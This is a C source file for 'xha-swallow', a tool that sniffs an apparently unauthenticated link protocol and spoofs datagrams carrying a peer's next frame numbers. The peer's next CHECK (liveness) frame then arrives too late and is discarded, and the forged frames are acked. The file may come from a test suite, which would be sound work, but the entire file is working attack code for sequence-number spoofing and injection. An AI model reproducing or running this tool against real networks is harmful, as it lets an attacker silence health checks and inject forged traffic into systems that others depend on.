// SPDX-License-Identifier: GPL-2.0
/*
 * Swallows one CHECK of a node that is alive, on a link without a key: whatever that node is going to say, datagrams with the
 * numbers of its next frames are there first. What comes after them counts as said before, and is acked.
 *
 * usage: xha-swallow DEV SRC DST PORT
 *
 * Prints the number of the frame that the CHECK was in. It is the last to be swallowed, but for AHEAD more.
 */
#include <poll.h>
#include <stdbool.h>
#include <stdio.h>

#include "spoof.h"

#define AHEAD		8
#define HEARD_MOST	2000	/* datagrams until we give up */
#define PATIENCE	10000	/* ms for each */
#define UNKNOWN		200	/* a type of records */

static struct spoof who;

/* Throws all numbers up to that of a frame and AHEAD more, each once. */
static bool throw(int fd, const struct datagram *seen, uint64_t *next)
{
	struct datagram d = { .len = SPOOF_HDR_LEN + SPOOF_REC_LEN };
	uint64_t frame = spoof_frame(seen);

	memcpy(d.data, seen->data, SPOOF_HDR_LEN);
	d.data[SPOOF_HDR_LEN] = UNKNOWN;
	if (*next <= frame)
		*next = frame + 1;
	for (; *next <= frame + AHEAD; ++*next) {
		spoof_number(&d, *next);
		if (spoof_send(fd, &who, &d))
			return false;
	}
	return true;
}

int main(int argc, char **argv)
{
	struct datagram seen = {};
	uint64_t next = 0;
	struct pollfd in;
	int out;

	if (argc != 5 || spoof_parse(&who, argv[2], argv[3], argv[4])) {
		fprintf(stderr, "usage: xha-swallow DEV SRC DST PORT\n");
		return 2;
	}
	in = (struct pollfd){ .fd = spoof_listen(argv[1]), .events = POLLIN };
	out = spoof_open();
	for (int heard = 0; heard < HEARD_MOST && in.fd >= 0 && out >= 0 && poll(&in, 1, PATIENCE) > 0; heard++) {
		if (!spoof_hear(in.fd, &who, &seen) || seen.data[1] != SPOOF_DATA)
			continue;
		if (spoof_find(&seen, SPOOF_CHECK, 0) && spoof_frame(&seen) < next) {
			printf("%llu\n", (unsigned long long)spoof_frame(&seen));
			return 0;
		}
		if (!throw(out, &seen, &next)) {
			perror("xha-swallow: send");
			return 1;
		}
	}
	fprintf(stderr, "xha-swallow: no CHECK on %s\n", argv[1]);
	return 1;
}
